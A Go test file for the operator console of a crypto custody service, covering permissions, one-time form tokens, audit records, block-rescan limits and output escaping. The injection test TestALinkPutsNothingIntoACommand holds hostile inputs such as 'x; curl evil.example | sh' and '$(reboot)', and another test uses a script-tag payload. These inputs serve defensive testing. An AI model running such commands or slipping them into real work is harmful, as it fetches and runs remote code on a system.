package console

import (
	"context"
	"errors"
	"fmt"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"slices"
	"strconv"
	"strings"
	"testing"

	"github.com/bursar/bursar"
	"github.com/bursar/bursar/account"
	"github.com/bursar/bursar/chain"
	"github.com/bursar/bursar/operator"
	"github.com/bursar/bursar/store"
	"github.com/bursar/bursar/store/storetest"
)

// A withdrawal is rejected once, however often the form is sent, and the act is recorded with it.
func TestAFormActsOnce(t *testing.T) {
	eachFixture(t, func(o *fixture) {
		w := o.waiting()
		token := o.token()
		for range 2 {
			o.answers("the form", o.sends("withdrawal.reject", "object", w.ID.String(), "token", token), http.StatusSeeOther)
		}
		if got := o.status(w.ID); got != bursar.WithdrawalRejected {
			o.T.Errorf("the withdrawal is %s, want rejected", got)
		}
		list := o.acts()
		if len(list) != 1 || list[0].Actor != "Ann" || list[0].Verb != "withdrawal.reject" || list[0].Reason != "because" ||
			list[0].Object != "withdrawal "+w.ID.String() || list[0].Became != "rejected" {
			o.T.Errorf("recorded are %+v, want the one act of Ann", list)
		}
		o.answers("another form", o.sends("withdrawal.reject", "object", w.ID.String()), http.StatusUnprocessableEntity,
			"Nothing was done", "the withdrawal is rejected", `value="`+w.ID.String())
	})
}

// Anybody who lacks a verb, or is restricted to other accounts, changes nothing, and the answer names the verb.
func TestAnActWithoutTheRight(t *testing.T) {
	eachFixture(t, func(o *fixture) {
		w := o.waiting()
		me := o.here
		o.here.Roles = []operator.Role{operator.Admin}
		o.answers("an admin", o.sends("withdrawal.reject", "object", w.ID.String()), http.StatusForbidden,
			"withdrawal.reject")
		o.here = me
		o.here.Accounts = []bursar.ID{o.OneChain.Accounts[1]}
		o.answers("a halt of everything", o.sends("halt", "object", "all"), http.StatusForbidden, "chain.halt")
		if got := o.status(w.ID); got != bursar.WithdrawalPendingApproval || len(o.acts()) != 0 {
			o.T.Errorf("the withdrawal is %s and recorded are %v, want nothing changed", got, o.acts())
		}
	})
}

// Anybody who is restricted to some accounts learns of no object of another account that it is there: it looks like an
// unknown one, whatever its state.
func TestAnActOnAnotherAccount(t *testing.T) {
	eachFixture(t, func(o *fixture) {
		ctx := context.Background()
		shop := o.OneChain.Accounts[0]
		waiting, rejected := o.waiting(), o.waiting()
		o.answers("a rejection", o.sends("withdrawal.reject", "object", rejected.ID.String()), http.StatusSeeOther)
		issued, err := o.console.Acts.Accounts.NewKey(ctx, account.Grant{Account: shop, Scopes: account.AllScopes()})
		o.Must(err)
		event := bursar.Event{ID: o.IDs.Next(), AccountID: shop, Kind: bursar.EventDeposit,
			Subject: o.IDs.Next(), Body: []byte("{}"), CreatedAt: o.DB.Now()}
		o.Do(func(tx *store.Tx) error { return tx.Events().Insert(ctx, event) })
		o.here.Accounts = []bursar.ID{o.OneChain.Accounts[1]}
		for _, act := range [][2]string{
			{"withdrawal.reject", waiting.ID.String()}, {"withdrawal.reject", rejected.ID.String()},
			{"withdrawal.cancel", rejected.ID.String()}, {"withdrawal.approve", rejected.ID.String()},
			{"webhook.redeliver", event.ID.String()}, {"webhook.test", shop.String()},
			{"key.revoke", issued.KeyID.String()}, {"account.freeze", shop.String()}, {"account.unfreeze", shop.String()},
		} {
			for _, object := range []string{act[1], o.token(), "x"} {
				o.answers(act[0], o.sends(act[0], "object", object), http.StatusNotFound, "there is no such thing")
			}
		}
		o.answers("an alarm", o.sends("alarm.close", "object", "1"), http.StatusForbidden, "alarm.close")
		if len(o.acts()) != 1 {
			o.T.Errorf("recorded are %v, want the rejection alone", o.acts())
		}
		o.here.Accounts = []bursar.ID{shop}
		o.answers("of their own account", o.sends("key.revoke", "object", issued.KeyID.String()), http.StatusSeeOther)
		o.answers("of their own account", o.sends("withdrawal.reject", "object", strings.ToUpper(waiting.ID.String())),
			http.StatusSeeOther)
	})
}

// Each act does what its command does.
func TestWhatOnePersonDoes(t *testing.T) {
	eachFixture(t, func(o *fixture) {
		ctx := context.Background()
		shop := o.OneChain.Accounts[0]
		w := o.waiting()
		issued, err := o.console.Acts.Accounts.NewKey(ctx, account.Grant{Account: shop, Scopes: account.AllScopes()})
		o.Must(err)
		var alarm store.Alarm
		o.Do(func(tx *store.Tx) error {
			err := tx.Alarms().Raise(ctx, store.Alarm{Chain: bursar.Bitcoin, Kind: "external_spend", Ref: "r", Message: "m"})
			if err != nil {
				return err
			}
			list, err := tx.Alarms().List(ctx, 1)
			alarm = list[0]
			return err
		})
		for _, act := range [][]string{
			{"withdrawal.cancel", "object", w.ID.String()},
			{"account.freeze", "object", shop.String()},
			{"halt", "object", "all"}, {"halt", "object", "chain:bitcoin"}, {"halt", "object", "currency:COIN"},
			{"key.revoke", "object", issued.KeyID.String()},
			{"webhook.test", "object", shop.String(), "url", "https://8.8.8.8/hook"},
			{"alarm.close", "object", strconv.FormatInt(alarm.Number, 10)},
		} {
			o.answers(act[0], o.sends(act[0], act[1:]...), http.StatusSeeOther)
		}
		if got := o.status(w.ID); got != bursar.WithdrawalCancelled {
			o.T.Errorf("the withdrawal is %s, want cancelled", got)
		}
		o.View(func(tx *store.Tx) error {
			halts, err := tx.Halts().List(ctx)
			if len(halts) != 4 || halts[0].Actor != "Ann" || halts[0].Reason != "because" {
				o.T.Errorf("halted are %v, want four scopes by Ann", halts)
			}
			open, failed := tx.Alarms().List(ctx, 10)
			if len(open) != 0 {
				o.T.Errorf("open are %v, want no alarm", open)
			}
			keys, other := tx.APIKeys().List(ctx, shop)
			if len(keys) != 1 || keys[0].RevokedAt.IsZero() {
				o.T.Errorf("the keys are %+v, want one that is revoked", keys)
			}
			return firstOf(err, failed, other)
		})
		if got := len(o.acts()); got != 8 {
			o.T.Errorf("%d acts are recorded, want 8", got)
		}
	})
}

func firstOf(errs ...error) error {
	for _, err := range errs {
		if err != nil {
			return err
		}
	}
	return nil
}

// Blocks are searched again, at most so many at once; the act is recorded before, and the form that is sent again
// searches again as one act: what is known is left as it is.
func TestBlocksAreSearchedAgain(t *testing.T) {
	eachFixture(t, func(o *fixture) {
		var searched []string
		var failed error
		o.console.Acts.Rescan = func(_ context.Context, id bursar.ChainID, tx string, from, to uint64) (int, error) {
			searched = append(searched, fmt.Sprint(id, tx, from, to))
			return 1, failed
		}
		token := o.token()
		for range 2 {
			o.answers("a transaction", o.sends("chain.rescan", "object", "bitcoin", "tx", "aa", "token", token),
				http.StatusSeeOther)
		}
		o.answers("blocks", o.sends("chain.rescan", "object", "bitcoin", "from", "7", "to", "56"), http.StatusSeeOther)
		o.answers("one block", o.sends("chain.rescan", "object", "bitcoin", "from", "7"), http.StatusSeeOther)
		want := []string{"bitcoinaa0 0", "bitcoinaa0 0", "bitcoin7 56", "bitcoin7 7"}
		if !slices.Equal(searched, want) {
			t := o.acts()
			o.T.Errorf("searched are %q, want %q; recorded are %v", searched, want, t)
		}
		if list := o.acts(); len(list) != 3 || list[2].Became != "transaction aa" || list[1].Became != "blocks 7 to 56" ||
			list[0].Verb != "chain.rescan" || list[0].Object != "chain bitcoin" {
			o.T.Errorf("recorded are %+v, want three acts with what was searched", list)
		}
		for what, fields := range map[string][]string{
			"another chain": {"object", "nowhere", "from", "7"}, "nothing": {"object", "bitcoin"},
			"both": {"object", "bitcoin", "from", "7", "tx", "aa"}, "too many": {"object", "bitcoin", "from", "7", "to", "57"},
			"back": {"object", "bitcoin", "from", "7", "to", "6"}, "a word": {"object", "bitcoin", "from", "x"},
			"no hash": {"object", "bitcoin", "tx", "a b"}, "below zero": {"object", "bitcoin", "from", "-1"},
		} {
			o.answers(what, o.sends("chain.rescan", fields...), http.StatusUnprocessableEntity, "Nothing was done", "<form")
		}
		// The attack: a token that was used searches other blocks, of which the log of acts says nothing.
		for what, fields := range map[string][]string{"other blocks": {"object", "bitcoin", "from", "9"},
			"another transaction": {"object", "bitcoin", "tx", "bb"}} {
			o.answers(what, o.sends("chain.rescan", append(fields, "token", token)...), http.StatusUnprocessableEntity,
				"sent for something else")
		}
		if len(searched) != len(want) {
			o.T.Errorf("searched are %q, want %q", searched, want)
		}
		failed = errors.New("http://user:secret@node answers nothing")
		w := o.sends("chain.rescan", "object", "bitcoin", "from", "7")
		o.answers("a node that fails", w, http.StatusUnprocessableEntity, "after 1 blocks")
		if strings.Contains(w.Body.String(), "secret") {
			o.T.Errorf("the answer is %s, want no address of a node in it", w.Body)
		}
		failed = fmt.Errorf("find: %w", chain.ErrNoBlock)
		o.answers("no such block", o.sends("chain.rescan", "object", "bitcoin", "from", "7"),
			http.StatusUnprocessableEntity, "no such block")
		o.here.Roles = []operator.Role{operator.Support}
		o.answers("support", o.sends("chain.rescan", "object", "bitcoin", "from", "7"), http.StatusForbidden,
			"chain.rescan")
	})
}

// The document names every act, and the command of each that one person does: its commands are checked to exist.
func TestEveryActIsDocumented(t *testing.T) {
	t.Parallel()
	text, err := os.ReadFile("../docs/operations/proposals.md")
	if err != nil {
		t.Fatal(err)
	}
	doc := strings.Join(strings.Fields(string(text)), " ")
	for _, d := range newFixture(t, storetest.Open(t, storetest.Reused(t))).console.deeds() {
		if !strings.Contains(doc, "`"+d.name+"`") || !strings.Contains(doc, "`"+string(d.verb)+"`") ||
			!strings.Contains(doc, d.twin) {
			t.Errorf("the document lacks `%s`, its right `%s` or its command %q, want all", d.name, d.verb, d.twin)
		}
	}
}

// What is wrong with a form stands beside it, and nothing was done.
func TestAFormThatIsRefused(t *testing.T) {
	eachFixture(t, func(o *fixture) {
		w := o.waiting().ID.String()
		for what, c := range map[string]struct {
			name   string
			fields []string
			want   string
		}{
			"no reason":    {"withdrawal.reject", []string{"object", w, "reason", ""}, "Reason is missing"},
			"no confirm":   {"withdrawal.reject", []string{"object", w, "confirm", ""}, "cannot be undone"},
			"no token":     {"withdrawal.reject", []string{"object", w, "token", ""}, "token is missing"},
			"other scope":  {"halt", []string{"object", "chain:nowhere"}, "the scope is"},
			"another word": {"charge.resolve", []string{"object", w, "charge", w, "resolution", "steal"}, "cannot be this"},
			"too long":     {"account.freeze", []string{"object", w, "reason", strings.Repeat("x", 2001)}, "cannot be this"},
		} {
			o.answers(what, o.sends(c.name, c.fields...), http.StatusUnprocessableEntity, "Nothing was done", c.want, "<form")
		}
		for _, name := range []string{"withdrawal.cancel", "key.revoke", "webhook.redeliver", "alarm.close",
			"account.freeze"} {
			o.answers(name, o.sends(name, "object", bursar.ID{5}.String()), http.StatusNotFound, "Nothing was done")
			o.answers(name, o.sends(name, "object", "<b>"), http.StatusNotFound, "&lt;b&gt;")
		}
		if len(o.acts()) != 0 {
			o.T.Errorf("recorded are %v, want nothing", o.acts())
		}
	})
}

// Every form can be read by who may do the act, says what will happen, and changes nothing.
func TestEveryFormSaysWhatWillHappen(t *testing.T) {
	t.Parallel()
	o := newFixture(t, storetest.Open(t, storetest.Reused(t)))
	for _, d := range o.console.deeds() {
		w := got(t, o.console, base+"/do/"+d.name+"?object=%22%3E%3Cscript%3E")
		o.answers(d.name, w, http.StatusOK, d.title, d.button, `name="token"`)
		if strings.Contains(w.Body.String(), "<script>") {
			t.Errorf("%s: the object is markup, want text", d.name)
		}
		if d.does == "" || len(d.verb) == 0 || d.nav == "" {
			t.Errorf("%s: it says %q and needs %q, want both and its place", d.name, d.does, d.verb)
		}
	}
	if len(o.acts()) != 0 {
		t.Errorf("recorded are %v, want nothing by reading", o.acts())
	}
}

// A link to a form names the object: what a shell would run never stands in the command that is there to be copied.
func TestALinkPutsNothingIntoACommand(t *testing.T) {
	t.Parallel()
	o := newFixture(t, storetest.Open(t, storetest.Reused(t)))
	for object, want := range map[string]bool{o.token(): true, "x; curl evil.example | sh": false, "$(reboot)": false} {
		r := httptest.NewRequest(http.MethodGet, base+"/do/withdrawal.cancel?object="+url.QueryEscape(object), nil)
		w := httptest.NewRecorder()
		o.console.ServeHTTP(w, r)
		if got := strings.Contains(w.Body.String(), "bursar withdrawal cancel"); w.Code != http.StatusOK || got != want {
			t.Errorf("%s: answered %d with the command %v, want %v", object, w.Code, got, want)
		}
	}
}
